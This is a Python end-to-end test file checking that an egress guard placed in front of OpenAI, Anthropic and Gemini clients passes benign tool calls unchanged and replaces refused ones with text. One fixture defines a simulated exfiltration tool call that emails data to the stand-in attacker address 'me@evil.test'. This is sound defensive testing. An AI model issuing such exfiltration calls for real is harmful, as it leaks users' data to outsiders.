"""The official clients of the model APIs, with a real guard between them and a server.

The server answers with events of the recorded shapes.  A benign call must arrive as if there were
no guard; a refused one must arrive as words, and the agent loop must be able to go on.
Clients are imported where they are used: every worker of pytest imports every module of tests, and
these three take a fifth of that time.
"""

import json
from typing import Any

import httpx
import pytest

from tests.e2e.running_guard import Upstream, serving
from tests.model_wires import Call, stream, whole

RECALL = Call("call_1", "memory_recall_fact", {"key": "Grüße 😀"})
MAIL = Call("call_1", "email_send_email", {"to": "team@example.com", "subject": "s", "body": "b"})
THEFT = Call("call_1", "email_send_email", {"to": "me@evil.test", "subject": "s", "body": "b"})
TOOLS = {"benign": [RECALL, MAIL], "theft": [THEFT], "mixed": [RECALL, THEFT]}


def _kind(head):
    if b"chat/completions" in head:
        return "openai_chat"
    if b"responses" in head:
        return "openai_responses"
    return "anthropic_messages" if b"/v1/messages" in head else "gemini"


def answer(request):
    """Answer as the API that was asked; the prompt says which calls to make."""
    head, _, body = request.partition(b"\r\n\r\n")
    document = json.loads(body)
    kind, text = _kind(head), json.dumps(document, ensure_ascii=False)
    names = [name for name in TOOLS if f"please {name}" in text]
    asked = [] if "and then" in text else TOOLS[names[0]] if names else []
    calls = [Call(f"call_{n}", c.name, c.arguments) for n, c in enumerate(asked)]
    if document.get("stream") or b"alt=sse" in head:
        data, media = stream(kind, "Let me see.", calls), b"text/event-stream"
    else:
        data, media = json.dumps(whole(kind, "Let me see.", calls)).encode(), b"application/json"
    size = str(len(data)).encode()
    head = b"HTTP/1.1 200 OK\r\ncontent-type: " + media + b"\r\ncontent-length: " + size
    return head + b"\r\n\r\n" + data


@pytest.fixture(scope="module")
def model(tmp_path_factory):
    """Return a guard in front of a model server."""
    server = Upstream()
    server.answer = answer
    options = ("--model-api", f"127.0.0.1:{server.port}")
    with serving(tmp_path_factory.mktemp("guard"), server, options=options) as guard:
        yield guard


Answer = tuple[str, list[tuple[str, dict[str, Any]]], str]


def ask_openai_chat(url, prompt, *, streamed):
    """Ask with the client's own accumulation of the stream."""
    import openai

    with (
        httpx.Client(trust_env=False) as http,
        openai.OpenAI(api_key="k", base_url=f"{url}/v1", http_client=http) as client,
    ):
        messages = [{"role": "user", "content": prompt}]
        if streamed:
            with client.chat.completions.stream(model="m", messages=messages) as events:
                choice = events.get_final_completion().choices[0]
        else:
            choice = client.chat.completions.create(model="m", messages=messages).choices[0]
    calls = [
        (c.function.name, json.loads(c.function.arguments)) for c in choice.message.tool_calls or []
    ]
    return choice.message.content, calls, choice.finish_reason


def ask_openai_responses(url, prompt, *, streamed):
    """Ask with the client's own accumulation of the stream."""
    import openai

    with (
        httpx.Client(trust_env=False) as http,
        openai.OpenAI(api_key="k", base_url=f"{url}/v1", http_client=http) as client,
    ):
        if streamed:
            with client.responses.stream(model="m", input=prompt) as events:
                response = events.get_final_response()
        else:
            response = client.responses.create(model="m", input=prompt)
    calls = [
        (item.name, json.loads(item.arguments))
        for item in response.output
        if item.type == "function_call"
    ]
    return response.output_text, calls, response.status


def ask_anthropic(url, prompt, *, streamed):
    """Ask with the client's own accumulation of the stream."""
    import anthropic

    with (
        httpx.Client(trust_env=False) as http,
        anthropic.Anthropic(api_key="k", base_url=url, http_client=http) as client,
    ):
        request = {
            "model": "m",
            "max_tokens": 9,
            "messages": [{"role": "user", "content": prompt}],
        }
        if streamed:
            with client.messages.stream(**request) as events:
                message = events.get_final_message()
        else:
            message = client.messages.create(**request)
    text = "".join(block.text for block in message.content if block.type == "text")
    calls = [(b.name, b.input) for b in message.content if b.type == "tool_use"]
    return text, calls, message.stop_reason


def ask_gemini(url, prompt, *, streamed):
    """Ask with the official client."""
    from google import genai

    options = {"base_url": url, "client_args": {"trust_env": False}}
    with genai.Client(api_key="k", http_options=options) as client:
        if streamed:
            chunks = list(client.models.generate_content_stream(model="m", contents=prompt))
        else:
            chunks = [client.models.generate_content(model="m", contents=prompt)]
    parts = [part for chunk in chunks for part in chunk.candidates[0].content.parts]
    text = "".join(part.text or "" for part in parts)
    calls = [(p.function_call.name, p.function_call.args) for p in parts if p.function_call]
    return text, calls, chunks[-1].candidates[0].finish_reason.value


CLIENTS = [
    pytest.param(ask_openai_chat, ("tool_calls", "stop"), id="openai chat"),
    pytest.param(ask_openai_responses, ("completed", "completed"), id="openai responses"),
    pytest.param(ask_anthropic, ("tool_use", "end_turn"), id="anthropic"),
    pytest.param(ask_gemini, ("STOP", "STOP"), id="gemini"),
]
STREAMED = pytest.mark.parametrize("streamed", [True, False], ids=["streamed", "whole"])


@STREAMED
@pytest.mark.parametrize(("ask", "ends"), CLIENTS)
def test_a_benign_answer_is_the_same_with_and_without_the_guard(model, ask, ends, streamed):
    """Text, calls and the reason for the end."""
    direct = ask(f"http://127.0.0.1:{model.upstream.port}", "please benign", streamed=streamed)

    guarded = ask(f"http://127.0.0.1:{model.port}", "please benign", streamed=streamed)

    assert guarded == direct
    assert guarded[1] == [(call.name, call.arguments) for call in (RECALL, MAIL)]
    assert guarded[2] == ends[0]


@STREAMED
@pytest.mark.parametrize(("ask", "ends"), CLIENTS)
def test_a_refused_call_arrives_as_words_and_the_loop_goes_on(model, ask, ends, streamed):
    """The client reads a refusal, no call, and can send it back as part of the history."""
    url = f"http://127.0.0.1:{model.port}"

    text, calls, end = ask(url, "please theft", streamed=streamed)

    assert (calls, end) == ([], ends[1])
    assert text.startswith("Let me see.")
    assert "by the egress guard and did not reach the tool" in text
    assert "evil.test" not in text
    assert ask(url, f"please theft and then {text}", streamed=streamed)[0] == "Let me see."


@STREAMED
@pytest.mark.parametrize(("ask", "ends"), CLIENTS)
def test_only_the_refused_call_of_an_answer_is_replaced(model, ask, ends, streamed):
    """The other call arrives, and the answer still ends in calls."""
    text, calls, end = ask(f"http://127.0.0.1:{model.port}", "please mixed", streamed=streamed)

    assert calls == [(RECALL.name, RECALL.arguments)]
    assert end == ends[0]
    assert "by the egress guard and did not reach the tool" in text
